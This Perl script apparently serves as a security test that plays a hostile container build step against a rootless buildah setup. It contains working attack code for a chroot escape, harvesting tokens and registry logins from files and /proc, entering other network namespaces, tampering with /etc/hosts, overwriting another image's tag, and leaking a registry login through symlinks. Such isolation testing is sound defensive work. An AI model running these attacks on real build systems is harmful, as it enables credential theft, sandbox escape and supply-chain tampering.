# Copyright (c) 2026, the rootless.buildah authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
#
# What a hostile RUN step tries. One line for each attack, "attack NAME: got ..." or "attack NAME: nothing".
# Plain perl without modules: the image that it runs in has none.
# usage: hostile.pl REGISTRY [store|image]
$| = 1;
my ($host, $port) = split /:/, $ARGV[0];

sub names { opendir(my $dir, $_[0]) or return; return map { "$_[0]/$_" } grep { !/^\.\.?$/ } readdir $dir }
sub content { open(my $file, "<", $_[0]) or return ""; local $/; return <$file> // "" }
sub report { my ($name, @found) = @_; print "attack $name: ", @found ? "got @found" : "nothing", "\n" }

# Files below a place, without following links.
sub below {
    my ($place, $depth) = @_;
    return ($place) if -f $place || !-d $place || -l $place;
    return $depth ? map { below($_, $depth - 1) } names($place) : ();
}

# Leave the root: chroot keeps the working directory, and ".." of what is outside of the root ends at no root.
mkdir "/tmp/jail"; chdir "/"; chroot "/tmp/jail"; chdir ".." for 1 .. 64; chroot "."; chdir "/";
report("root", grep { -e } "/usr/local/bin/rootless-build-guard");

my @places = ("/run", "/var/run", "/root", "/home", "/etc", "/tmp", "/dev/shm");
my @files = map { below($_, 12) } @places;
report("token", grep { m{serviceaccount/.*token|kubernetes\.io/serviceaccount} && content($_) =~ /^ey/ } @files);
report("logins", map { "$_ " . content($_) } grep { m{dockerconfigjson|auth\.json|config\.json|\.netrc}
    && content($_) =~ /"auth"|password/ } @files);
report("host", grep { -e "$_" } map { ($_, "/host$_") } "/var/lib/kubelet", "/run/containerd/containerd.sock",
    "/etc/kubernetes", "/dev/vda", "/dev/sda", "/dev/mem");
report("volumes", grep { m{/pods/[^/]+/volumes/[^/]+/(store|work)$} } map { names($_) } map { names("$_/volumes") }
    names("/host/var/lib/kubelet/pods"), names("/var/lib/kubelet/pods"));

# Processes: whoever has a login in his environment, a root that is not this one, or a file of logins open.
my (@environ, @root, @fd);
for my $process (grep { m{/\d+$} && $_ ne "/proc/$$" } names("/proc")) {
    push @environ, "$process/environ" if content("$process/environ") =~ /LOGIN=/;
    push @root, "$process/root" if -e "$process/root/run/build/auth/.dockerconfigjson";
    push @fd, map { "$_ " . readlink } grep { (readlink // "") =~ /dockerconfigjson/ } names("$process/fd");
}
report("environ", @environ);
report("roots", @root);
report("fds", @fd);

# What is shared with the containers that come later.
# A RUN step that is in its root has files of its own there.
my $left = -e "/usr/local/bin/rootless-build-guard";
sub spoil { my $file; return $left && open($file, ">>", $_[0]) && print($file "# hostile\n") }
spoil("/etc/hosts");
report("names", grep { spoil($_) } "/etc/resolv.conf");

# The network: the plain way, somebody's network namespace (setns is 308), a packet socket, sockets without a path.
sub reach { socket(my $tcp, 2, 1, 6) or return; local $SIG{ALRM} = sub { die }; my $done;
    eval { alarm 5; $done = connect($tcp, pack("S n C4 x8", 2, $port, split /\./, $host)); alarm 0 }; return $done }
my @network;
push @network, "tcp" if reach();
socket(my $packet, 17, 3, 0x0300) and push @network, "packets";
for my $process (grep { m{/\d+$} } names("/proc")) {
    next if (readlink("$process/ns/net") // "") eq readlink("/proc/self/ns/net");
    open(my $other, "<", "$process/ns/net") or next;
    push @network, "setns" if syscall(308, fileno $other, 0x40000000) == 0 && reach();
}
report("network", @network);
report("sockets", content("/proc/net/unix") =~ /(\@\S+)/g);

# Another image's tag, with the login that is in reach, or with none: an image with nothing in it.
my $login = "/run/build/auth/.dockerconfigjson";
sub put { my $file; open($file, ">", $_[0]) and print $file $_[1] }
sub overwrite {
    my ($place, $empty) = ("/dev/shm/image", "44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a");
    mkdir $place;
    put("$place/version", "Directory Transport Version: 1.1\n");
    put("$place/$empty", "{}");
    my $kind = "application/vnd.oci.image";
    put("$place/manifest.json", qq({"schemaVersion": 2, "mediaType": "$kind.manifest.v1+json", "layers": [], "config":
        {"mediaType": "$kind.config.v1+json", "digest": "sha256:$empty", "size": 2}}));
    my @login = -e $login ? "--dest-authfile=$login" : "--dest-no-creds";
    return !system("/usr/bin/skopeo", "copy", "--quiet", "--dest-tls-verify=false", @login, "dir:$place", "docker://$_[0]");
}
report("tag", grep { $left && overwrite($_) } "$host:$port/trials/hostile-victim:1");

# With the store in reach: push shall read its own login as the list of a layer's parents and quote it in its error.
# Links stand for the pieces that anybody can guess, so that only the login itself is not found.
my $store = "/var/lib/containers/storage";
my $how = $ARGV[1] // "store";
if ($how eq "store" && -d "$store/overlay") {
    unlink grep { /tar-split/ } names("$store/overlay-layers");
    unlink names("/var/lib/containers/cache");
    my @layers = grep { -d "$_/diff" && !-e "$_/lower" } names("$store/overlay");
    # As a role of this collection writes such a file.
    symlink("x", "$store/overlay/$_") for qq({\n  "auths"), qq( {\n    "$host), qq($port"), qq( {\n      "auth");
    report("store", grep { symlink($login, "$_/lower") } @layers);
}
# Or it shall read it as a part of the image: whoever stays behind when the step has ended puts it there.
if ($how eq "image" && !fork) {
    close STDIN; close STDOUT; close STDERR;
    select(undef, undef, undef, 0.01) until -e "/run/build/work/image/version";
    symlink($login, "/run/build/work/image/signature-1");
}
